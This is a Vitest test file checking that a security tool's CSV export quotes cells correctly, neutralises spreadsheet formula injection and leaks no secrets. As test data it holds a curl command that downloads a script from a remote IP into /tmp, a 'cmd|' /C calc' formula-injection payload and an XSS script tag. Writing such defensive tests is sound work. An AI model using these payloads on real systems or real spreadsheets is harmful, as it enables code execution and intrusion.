import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, csvFormat } from "../../src/outputs/formats/csv.js";
import { renderToString } from "../../src/outputs/registry.js";
import { demoResult } from "./demo-result.js";
import { FORMULA_PRINCIPAL, makeHostileResult } from "./hostile.js";

/** A strict RFC 4180 reader: every cell quoted (as the format writes them), CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      expect(text[i], `cell at ${i} is not quoted`).toBe('"');
      let cell = "";
      i += 1;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error("unterminated cell");
        cell += text.slice(i, q);
        if (text[q + 1] === '"') {
          cell += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      record.push(cell);
      if (text[i] === ",") {
        i += 1;
        continue;
      }
      expect(text.slice(i, i + 2), `record end at ${i}`).toBe("\r\n");
      i += 2;
      break;
    }
    records.push(record);
  }
  return records;
}

const render = (result: Parameters<typeof renderToString>[1]) =>
  renderToString(csvFormat, result, { toolVersion: "0.1.0", color: false });

describe("--format csv", () => {
  it("writes a header and one row per demo finding", async () => {
    const result = await demoResult();
    const rows = parseCsv(await render(result));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(result.findings.length + 1);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(rows.slice(1).map((r) => r[col("id")])).toEqual(result.findings.map((f) => f.id));
    const payload = rows.find((r) => r[col("evidence")] === "payload" && r[col("detail")]?.includes("curl"));
    expect(payload?.[col("detail")]).toContain("curl -fsSL http://198.51.100.23/s2.sh -o /tmp/.s2");
    expect(payload?.[col("techniques")]).toBe("T1059 T1105 T1651");
  });

  it("neutralises formulas, keeps quotes and line breaks inside cells, and leaks nothing", async () => {
    const { result, password } = makeHostileResult();
    const text = await render(result);
    expect(text).not.toContain(password);
    expect(text).not.toContain("\u001b");
    expect(text).not.toContain("\u0007");
    const rows = parseCsv(text);
    expect(rows).toHaveLength(4);
    for (const row of rows) {
      expect(row).toHaveLength(CSV_COLUMNS.length);
      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const formula = rows.find((r) => r[col("id")] === "f-formula") ?? [];
    expect(formula[col("principal")]).toBe(`'${FORMULA_PRINCIPAL}`);
    expect(formula[col("title")]).toBe("'+cmd|' /C calc'!A0");
    expect(formula[col("status")]).toBe("suppressed");
    expect(formula[col("suppression")]).toBe("s.yaml:3 until 2030-01-01: accepted <b>risk</b> @boss");
    const xss = rows.find((r) => r[col("id")] === "f-xss-resource") ?? [];
    expect(xss[col("operation")]).toBe("'\tMicrosoft.Compute/virtualMachines/runCommand/action");
    expect(xss[col("title")]).toContain("\nsecond line");
    expect(xss[col("detail")]).toContain("<script>window.__xss=3</script>");
  });
});
